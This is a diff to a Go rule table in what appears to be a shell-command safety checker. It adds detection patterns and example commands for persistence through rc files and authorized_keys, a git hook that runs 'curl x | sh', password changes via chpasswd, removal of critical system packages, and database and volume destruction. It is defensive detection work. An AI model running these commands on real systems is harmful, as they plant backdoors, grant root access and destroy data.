@@ -464,7 +464,7 @@ var table = []*Rule{
 			}
 			return false
 		},
-		Match:   []string{"echo 'alias ls=rm' >> ~/.bashrc", "cat key.pub >> ~/.ssh/authorized_keys", "echo token > ~/.netrc", "cp creds ~/.aws/credentials", "echo SECRET=1 > .env", "sed -i 's/x/y/' ~/.zshrc", "tee ~/.npmrc < x", "echo x >> $HOME/.profile", "curl -o ~/.bashrc http://x/rc", "wget -O ~/.ssh/authorized_keys http://x/k"},
+		Match:   []string{"echo 'alias ls=rm' >> ~/.bashrc", "cat key.pub >> ~/.ssh/authorized_keys", "echo token > ~/.netrc", "cp creds ~/.aws/credentials", "echo SECRET=1 > .env", "sed -i 's/x/y/' ~/.zshrc", "tee ~/.npmrc < x", "echo x >> $HOME/.profile", "curl -o ~/.bashrc http://x/rc", "wget -O ~/.ssh/authorized_keys http://x/k", "echo key >> /root/.ssh/authorized_keys", "echo x >> ~root/.bashrc", "echo 'curl x | sh' > .git/hooks/pre-commit", "echo x > ~/.config/autostart/x.desktop"},
 		NoMatch: []string{"cat ~/.bashrc", "cp .env.example .env.example.bak", "echo x > notes.txt", "grep x ~/.ssh/config", "source ~/.bashrc"},
 	},
 	{
@@ -737,7 +737,7 @@ var table = []*Rule{
 		ID: "privilege-grant", Tier: Dangerous,
 		Title:  "Grant admin rights or remove a password",
 		Reason: "Adding a user to sudo or wheel, or deleting a password, opens the machine to whoever has that account.",
-		names:  []string{"usermod", "gpasswd", "adduser", "passwd", "setcap", "useradd"},
+		names:  []string{"usermod", "gpasswd", "adduser", "passwd", "setcap", "useradd", "chpasswd"},
 		cmd: func(c *parse.Command) bool {
 			a := args(c, "-G", "-g", "-a", "-d", "-s", "-e", "-f", "-l", "-u", "-c", "-p")
 			admin := func(s string) bool {
@@ -768,6 +768,8 @@ var table = []*Rule{
 			case "setcap":
 				w := strings.ToLower(strings.Join(a.words(), " "))
 				return strings.Contains(w, "cap_setuid") || strings.Contains(w, "cap_sys_admin") || strings.Contains(w, "cap_dac_override") || strings.Contains(w, "=ep") && strings.Contains(w, "all")
+			case "chpasswd":
+				return !c.StdinStatic || strings.Contains(c.StdinText, "root:")
 			case "useradd":
 				for i, w := range c.Args {
 					if (w.Value == "-u" || w.Value == "--uid") && i+1 < len(c.Args) && c.Args[i+1].Value == "0" {
@@ -784,7 +786,7 @@ var table = []*Rule{
 			}
 			return false
 		},
-		Match:   []string{"setcap cap_setuid+ep /usr/bin/python3", "useradd -o -u 0 evil", "usermod -p '' root", "usermod -aG sudo bob", "sudo usermod -a -G wheel eve", "gpasswd -a bob sudo", "adduser bob sudo", "passwd -d root"},
+		Match:   []string{"echo 'root:x' | chpasswd", "setcap cap_setuid+ep /usr/bin/python3", "useradd -o -u 0 evil", "usermod -p '' root", "usermod -aG sudo bob", "sudo usermod -a -G wheel eve", "gpasswd -a bob sudo", "adduser bob sudo", "passwd -d root"},
 		NoMatch: []string{"usermod -aG docker bob", "passwd", "adduser bob"},
 	},
 	{
@@ -877,11 +879,21 @@ var table = []*Rule{
 		Suggest: "take a backup or snapshot first, and check the name twice",
 		names:   destroyNames(),
 		cmd:     destroysData,
-		Match: []string{"zpool destroy tank", "lvremove -f vg0/data", "vgremove -f vg0", "pvremove -ff /dev/sdb", "mdadm --zero-superblock /dev/sdb", "dropdb prod", "mysqladmin -f drop prod",
+		Match: []string{"alembic downgrade base", "python manage.py migrate app zero", "mix ecto.drop", "flyway clean", "pg_restore --clean -d prod dump.sql", "dropuser app", "btrfs su d /mnt/data/@home", "zpool destroy tank", "lvremove -f vg0/data", "vgremove -f vg0", "pvremove -ff /dev/sdb", "mdadm --zero-superblock /dev/sdb", "dropdb prod", "mysqladmin -f drop prod",
 			"rails db:drop", "bin/rails db:reset", "python manage.py flush --noinput", "prisma migrate reset --force", "supabase db reset", "heroku pg:reset DATABASE_URL --confirm app",
 			"cdk destroy --force MyStack", "vagrant destroy -f", "virsh undefine vm --remove-all-storage", "lxc delete c1 --force", "incus delete c1 -f", "multipass delete -p vm",
 			"gh repo delete owner/repo --yes", "npm unpublish pkg --force", "fly apps destroy app -y"},
 		NoMatch: []string{"zpool status", "lvs", "rails db:migrate", "python manage.py migrate", "prisma migrate dev", "vagrant up", "gh repo view x", "npm publish", "lxc list"},
+	},
+	{
+		ID: "remove-critical-package", Tier: Dangerous,
+		Title:   "Remove a package the system needs",
+		Reason:  "Removing the C library, the init system, the kernel or the shell breaks the machine, often so that it no longer boots.",
+		Suggest: "check what the package manager would remove first (apt-get -s remove …)",
+		names:   []string{"apt-get", "apt", "aptitude", "dpkg", "rpm", "yum", "dnf", "zypper", "pacman", "apk"},
+		cmd:     removesCritical,
+		Match:   []string{"apt-get purge -y 'linux-image-*'", "apt-get remove -y systemd", "rpm -e --nodeps glibc", "dpkg --purge --force-all libc6", "pacman -Rdd glibc", "dnf remove sudo"},
+		NoMatch: []string{"apt-get install systemd", "apt-get remove -y cowsay", "dpkg -l libc6", "pacman -S glibc", "apt-get -s remove systemd"},
 	},
 	{
 		ID: "reverse-shell", Tier: Dangerous, NeverPermanent: true,
